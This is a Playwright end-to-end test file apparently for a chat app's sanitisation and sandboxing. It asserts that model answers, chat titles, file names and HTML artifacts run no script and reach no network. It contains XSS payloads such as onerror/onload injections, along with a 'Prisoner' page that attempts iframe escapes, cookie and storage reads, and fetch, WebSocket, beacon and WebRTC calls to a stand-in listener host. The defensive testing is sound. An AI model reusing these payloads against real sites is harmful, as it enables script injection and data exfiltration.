import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { createServer } from 'node:net';
import { expect, test, type Page } from '@playwright/test';
import { ask, composer, createFirstAccount, latestTurn, untilAnswered } from '../fixtures/chat-page.ts';
import { freePort } from '../fixtures/free-port.ts';
import { canary, hostileTexts } from '../fixtures/hostile-texts.ts';
import { startParley, type Parley } from '../fixtures/parley.ts';
import { startToolModel, type ToolModel } from '../fixtures/tool-model.ts';

/** Attacks of one answer. */
const together = 25;
const answers = Array.from({ length: Math.ceil(hostileTexts.length / together) }, (_, index) =>
  hostileTexts.slice(index * together, (index + 1) * together),
);

/**
 * Hears whoever says anything, by TCP or UDP, on one port of this machine. Chromium connects for a frame that goes elsewhere
 * before it asks whether it may, and then says nothing.
 */
async function startListener() {
  const heard: string[] = [];
  const tcp = createServer((socket) => {
    socket.on('error', () => undefined);
    socket.once('data', (bytes) => {
      heard.push(bytes.toString('latin1').split('\r\n', 1)[0] ?? '');
      socket.destroy();
    });
  });
  tcp.listen(0, '127.0.0.1');
  await once(tcp, 'listening');
  const address = tcp.address();
  if (address === null || typeof address === 'string') throw new Error('The listener has no port.');
  const udp = createSocket('udp4', () => heard.push('a datagram'));
  udp.bind(address.port, '127.0.0.1');
  await once(udp, 'listening');
  return {
    host: `127.0.0.1:${String(address.port)}`,
    heard,
    close() {
      tcp.close();
      udp.close();
    },
  };
}

/** A page that tries every way out of its frame, and says at its end that it did. */
const prisoner = (host: string) => `<!doctype html>
<title>Prisoner</title>
<link rel="stylesheet" href="http://${host}/style">
<link rel="prefetch" href="http://${host}/prefetch">
<link rel="icon" href="http://${host}/icon">
<style>@import "http://${host}/import"; @font-face { font-family: x; src: url(http://${host}/font) } body { background: url(http://${host}/background); font-family: x }</style>
<script src="http://${host}/script"></script>
<img src="http://${host}/image"><video src="http://${host}/video"></video><audio src="http://${host}/audio"></audio>
<iframe src="http://${host}/frame"></iframe><object data="http://${host}/object"></object><embed src="http://${host}/embed">
<form id="form" action="http://${host}/form"></form><a id="ping" href="#x" ping="http://${host}/ping">x</a>
<p id="done"></p>
<iframe srcdoc="<script>const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${host}' }] }); peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer))</script>"></iframe>
<div><template shadowrootmode="closed"><iframe srcdoc="<script>const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${host}' }] }); peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer))</script>"></iframe></template></div>
<script type="module">
  const offer = "const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${host}' }] }); peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer))";
  const peer = '<script>' + offer + '<' + '/script>';
  const ways = {
    page: () => { parent.${canary} = 1; },
    top: () => { top.${canary} = 1; },
    document: () => parent.document.body.append('x'),
    cookie: () => document.cookie,
    storage: () => localStorage.length,
    databases: () => indexedDB.open('x'),
    navigation: () => { top.location = 'http://${host}/top'; },
    popup: () => { if (window.open('http://${host}/popup') === null) throw new Error('closed'); },
    alert: () => alert('${canary}'),
    form: () => form.submit(),
    ping: () => ping.click(),
    beacon: () => navigator.sendBeacon('http://${host}/beacon'),
    fetch: () => fetch('http://${host}/fetch', { mode: 'no-cors' }),
    xhr: () => { const request = new XMLHttpRequest(); request.open('GET', 'http://${host}/xhr', false); request.send(); },
    socket: () => new WebSocket('ws://${host}/socket'),
    events: () => new EventSource('http://${host}/events'),
    import: () => import('http://${host}/import.js'),
    worker: () => new Worker(URL.createObjectURL(new Blob(["importScripts('http://${host}/worker'); fetch('http://${host}/worker-fetch')"]))),
    peer: () => new RTCPeerConnection({ iceServers: [{ urls: 'stun:${host}' }] }).createDataChannel('x'),
    eval: () => eval('1'),
    frame: () => {
      const frame = document.createElement('iframe');
      frame.srcdoc = peer;
      document.body.append(frame);
    },
    hidden: () => {
      for (const mode of ['open', 'closed']) {
        const host = document.body.appendChild(document.createElement('div'));
        host.attachShadow({ mode }).innerHTML = '<iframe srcdoc="' + peer + '"></iframe>';
      }
    },
    address: () => document.body.insertAdjacentHTML('beforeend', '<iframe src="javascript:' + offer + '"></iframe>'),
    unsafe: () => document.body.appendChild(document.createElement('div')).setHTMLUnsafe('<div><template shadowrootmode="closed"><iframe srcdoc="' + peer + '"></iframe></template></div>'),
    message: () => { for (const type of ['init', 'ready', 'link']) parent.postMessage({ v: 1, nonce: '', type, url: 'javascript:top.${canary}=1' }, '*'); },
  };
  const open = [];
  for (const [name, go] of Object.entries(ways)) {
    try {
      await go();
      if (['page', 'top', 'document', 'cookie', 'storage', 'popup', 'eval', 'peer', 'fetch', 'xhr', 'import'].includes(name)) open.push(name);
    } catch {}
  }
  await new Promise((resolve) => setTimeout(resolve, 1000));
  done.textContent = 'Open: ' + (open.join(' ') || 'none');
</script>`;

test.use({ trace: 'off' });

test.describe('hostile text', () => {
  test.describe.configure({ mode: 'serial' });
  let listener: Awaited<ReturnType<typeof startListener>>;
  let model: ToolModel;
  let parley: Parley;
  let page: Page;
  let dialogs = 0;

  test.beforeAll(async ({ browser }) => {
    listener = await startListener();
    model = await startToolModel(({ prompt }) => {
      const number = /^Attack (\d+)/.exec(prompt)?.[1];
      if (number !== undefined) return answers[Number(number)]?.join('\n\n') ?? '';
      if (prompt === 'Escape') {
        return `:::artifact{identifier="p" type="text/html" title="Prisoner"}\n\`\`\`html\n${prisoner(listener.host)}\n\`\`\`\n:::`;
      }
      if (prompt === 'Leave') {
        return `:::artifact{identifier="l" type="text/html" title="Leaver"}\n<p>Here</p><script>setTimeout(() => { location.href = 'http://${listener.host}/left' }, 300)</script>\n:::`;
      }
      return 'Hello.';
    });
    parley = await startParley({
      OPENAI_REVERSE_PROXY: model.url,
      OPENAI_API_KEY: 'sk-e2e',
      APP_FRAME_PORT: String(await freePort()),
    });
    page = await (await browser.newContext()).newPage();
    page.on('dialog', (dialog) => {
      dialogs += 1;
      void dialog.dismiss();
    });
    await createFirstAccount(page, parley.url);
  });
  test.afterEach(async () => {
    expect(await page.evaluate((name) => Reflect.get(window, name), canary)).toBeUndefined();
    expect(dialogs).toBe(0);
    expect(listener.heard).toEqual([]);
  });
  test.afterAll(async () => {
    await page.context().close();
    await parley.dispose();
    await model.close();
    listener.close();
  });

  test('has at least 200 ways to attack', () => {
    expect(hostileTexts.length).toBeGreaterThan(200);
  });

  for (const [index, texts] of answers.entries()) {
    test(`runs nothing in an answer, attacks ${String(index * together)} to ${String(index * together + texts.length - 1)}`, async () => {
      await ask(page, `Attack ${String(index)}`);
      await untilAnswered(page);
      const turn = latestTurn(page);
      await expect(turn.locator('.markdown')).toBeVisible();
      // Everything that can be seen has been drawn, and everything that can be hovered or pressed was.
      for (const link of await turn.locator('.markdown a').all()) {
        expect(await link.evaluate((element) => element instanceof HTMLAnchorElement && element.protocol)).toMatch(
          /^(?:https?|mailto):$/,
        );
      }
      const inert = await turn
        .locator('.markdown')
        .evaluate((root) =>
          Array.from(root.querySelectorAll('*')).flatMap((element) =>
            /^(?:script|iframe|object|embed|form|style|link|meta|base)$/.test(element.localName) ||
            element.getAttributeNames().some((name) => name.startsWith('on'))
              ? [element.outerHTML.slice(0, 100)]
              : [],
          ),
        );
      expect(inert).toEqual([]);
    });
  }

  test('runs nothing in a question, in its title and in its edit', async () => {
    await page.goto(parley.url);
    await ask(
      page,
      hostileTexts
        .filter((text) => text.includes('<'))
        .slice(0, 60)
        .join('\n'),
    );
    await untilAnswered(page);
    await page.reload();
    await expect(latestTurn(page)).toContainText('Hello.');
  });

  test('runs nothing where an answer is quoted', async () => {
    await page.goto(parley.url);
    await ask(page, 'Attack 0');
    await untilAnswered(page);
    await latestTurn(page)
      .locator('.markdown')
      .evaluate((element) => {
        const range = document.createRange();
        range.selectNodeContents(element);
        window.getSelection()?.removeAllRanges();
        window.getSelection()?.addRange(range);
      });
    await page.getByRole('button', { name: 'Quote', exact: true }).press('Enter');
    await expect(page.getByRole('list', { name: 'Quotes for the next message' })).toContainText('<');
    await ask(page, 'What is this?');
    await expect(latestTurn(page)).toContainText('Hello.');
    await untilAnswered(page);
    await page.reload();
    await expect(page.getByRole('list', { name: 'Quoted from earlier in this chat' })).toContainText('<');
  });

  test('runs nothing in the name of a chat', async () => {
    for (const title of [
      '<img src=x onerror=window.hacked=1>',
      '"><svg onload=window.hacked=1>',
      '{{window.hacked=1}}',
    ]) {
      await page.evaluate(() => undefined);
      await renameChat(page, parley.url, title);
      await page.reload();
      await expect(page.getByText(title).first()).toBeVisible();
    }
  });

  test('runs nothing in the name of a file', async () => {
    const name = '"><img src=x onerror=window.hacked=1>.txt';
    const choosing = page.waitForEvent('filechooser');
    await page.getByRole('button', { name: 'Attach files' }).click();
    await (await choosing).setFiles({ name, mimeType: 'text/plain', buffer: Buffer.from('x') });
    await expect(page.getByText(name).first()).toBeVisible();
    await composer(page).fill('Look');
    await composer(page).press('Enter');
    await untilAnswered(page);
  });

  test('gets nowhere from an artifact', async () => {
    await ask(page, 'Escape');
    await untilAnswered(page);
    await latestTurn(page).getByRole('button', { name: 'Open Prisoner' }).click();
    const frame = page.getByRole('complementary', { name: 'Prisoner' }).frameLocator('iframe').first();
    await expect(frame.locator('#done')).toHaveText('Open: none', { timeout: 30_000 });
    await expect(page).toHaveURL(new RegExp(`^${parley.url}/`));
    await expect(page.getByRole('dialog', { name: 'Open this page?' })).toHaveCount(0);
  });

  test('that leaves its frame arrives nowhere', async () => {
    await ask(page, 'Leave');
    await untilAnswered(page);
    await latestTurn(page).getByRole('button', { name: 'Open Leaver' }).click();
    await expect(page.getByText('It is not responding.')).toBeVisible({ timeout: 40_000 });
  });
});

async function renameChat(page: Page, url: string, title: string): Promise<void> {
  const id = new URL(page.url()).pathname.split('/').at(-1) ?? '';
  const session = await page.request.post(`${url}/api/auth/refresh`, { headers: { origin: url } });
  const { accessToken } = await session.json();
  const answer = await page.request.patch(`${url}/api/conversations/${id}`, {
    headers: { authorization: `Bearer ${accessToken}` },
    data: { title },
  });
  expect(answer.status()).toBe(200);
}
